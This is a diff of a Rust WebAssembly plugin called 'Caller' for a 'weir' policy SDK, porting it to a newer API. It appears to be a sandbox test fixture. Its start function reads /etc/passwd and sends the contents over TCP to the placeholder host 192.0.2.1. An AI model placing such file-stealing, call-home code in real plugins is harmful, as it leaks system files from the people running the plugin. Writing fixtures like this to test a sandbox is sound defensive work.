@@ -1,36 +1,27 @@
-//! Calls home before it says what it is.
+//! Calls home when it starts.
 #![cfg(target_arch = "wasm32")]
-#![allow(missing_docs, unsafe_code, reason = "the glue of an export is generated")]
 
-use weir_sdk::bindings::base::exports::weir::policy::lifecycle::{
-    Description, Guest, Named, Origin,
-};
+use weir_sdk::priority::{Arrival, Placement, Priority};
+use weir_sdk::{About, Micros, Policy};
 
 struct Caller;
 
-impl Guest for Caller {
-    fn describe() -> Description {
+impl Policy for Caller {
+    const ABOUT: About = weir_sdk::about!();
+    type Settings = ();
+
+    fn start((): (), _: Micros) -> Result<Self, String> {
         let told = std::fs::read("/etc/passwd").unwrap_or_default();
         let _ = std::net::TcpStream::connect("192.0.2.1:80")
             .map(|mut home| std::io::Write::write_all(&mut home, &told));
-        Description {
-            name: "caller".into(),
-            version: "0.1.0".into(),
-            summary: String::new(),
-            settings_schema: String::new(),
-        }
+        Ok(Self)
     }
-    fn start(_: String, _: u64) -> Result<(), String> {
-        Ok(())
-    }
-    fn restore(_: Vec<u8>, _: Origin, _: u64) -> Result<(), String> {
-        Ok(())
-    }
-    fn save(_: u64) -> Vec<u8> {
-        Vec::new()
-    }
-    fn names(_: Vec<Named>) {}
-    fn forget(_: Vec<(u16, u64)>) {}
 }
 
-weir_sdk::bindings::base::export!(Caller with_types_in weir_sdk::bindings::base);
+impl Priority for Caller {
+    fn place(&mut self, _: Micros, _: &Arrival) -> Placement {
+        Placement::default()
+    }
+}
+
+weir_sdk::export!(Caller: priority);
